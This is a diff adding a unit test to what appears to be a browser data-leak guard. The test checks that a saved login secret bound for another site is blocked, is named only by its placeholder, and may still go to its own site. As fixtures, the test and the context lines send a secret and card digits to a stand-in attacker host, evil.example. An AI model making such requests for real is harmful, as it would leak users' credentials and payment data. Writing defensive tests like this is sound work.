@@ -292,6 +292,17 @@ describe('holdCheck by destination: a value in the page goes only where it was t
     expect(holdCheck(get('data:image/gif;base64,R0lGOD'), ctx({ watched: card() }))).toBeNull();
   });
 
+  it('a Settings secret typed into a page: held on the way to any other site, named by its placeholder, never by its value', () => {
+    const w: Watched[] = [{ value: SECRET, kind: 'secret', name: 'login', site: 'https://shop.example/', home: ['shop.example'] }];
+    const hit = holdCheck(get('https://evil.example/x.png'), ctx({ watched: w }));
+    expect(hit).toMatchObject({ id: 'password', away: 'evil.example' });
+    expect(hit?.reason).toContain('{{secret:login}}');
+    expect(hit?.reason).not.toContain(SECRET);
+    expect(holdCheck(post('https://shop.example/login', `s=${encodeURIComponent(SECRET)}`), ctx({ watched: w }))).toBeNull();
+    // in Chinese too (the person's language)
+    expect(holdCheck(get('https://evil.example/x.png'), ctx({ watched: w, t: translatorFor('zh_CN') }))?.reason).toContain('evil.example');
+  });
+
   it('the held record keeps the destination and the child session, never the value', () => {
     const req = get(`https://evil.example/c/${CARD_DIGITS}`);
     const hit = holdCheck(req, ctx({ watched: card() }))!;
